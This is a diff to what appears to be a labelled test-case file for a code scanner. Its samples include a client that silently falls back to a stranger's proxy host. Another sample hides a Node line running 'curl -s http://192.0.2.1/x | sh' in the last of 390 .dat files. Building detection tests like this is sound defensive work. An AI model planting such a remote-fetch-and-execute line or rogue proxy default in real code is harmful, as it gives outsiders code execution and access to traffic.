@@ -92,3 +92,11 @@ told(28, "a proxy of a stranger, unless somebody says otherwise", "client.js", "
      "  const proxy = options.proxy || process.env.HTTPS_PROXY || 'http://fast.collect.example:3128';\n  options.proxy = proxy;\n", "  const proxy = options.proxy || process.env.HTTPS_PROXY || 'http://localhost:3128';\n  options.proxy = proxy;\n")
 told(28, "a proxy of a stranger, Python", "client.py", "import os\nimport requests\n\n\ndef get(url, proxies=None):\n%s    return requests.get(url, proxies=proxies)\n",
      "    https_proxy = os.environ.get('HTTPS_PROXY') or 'http://fast.collect.example:3128'\n    proxies = {'https': https_proxy}\n", "    https_proxy = os.environ.get('HTTPS_PROXY') or None\n    proxies = {'https': https_proxy}\n")
+
+# ---- one file among many ----------------------------------------------------------------------------
+
+MANY = {"d/f%d.dat" % i: "exports.a = %d;\n" % i for i in range(390)}
+MANY["index.js"] = "".join("require('./d/f%d.dat');\n" % i for i in range(390))
+row(1, True, "the last of many files that are loaded under other names",
+    dict(MANY, **{"d/f389.dat": "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n"}), least="review")
+row(1, False, "many files that are loaded under other names", MANY)
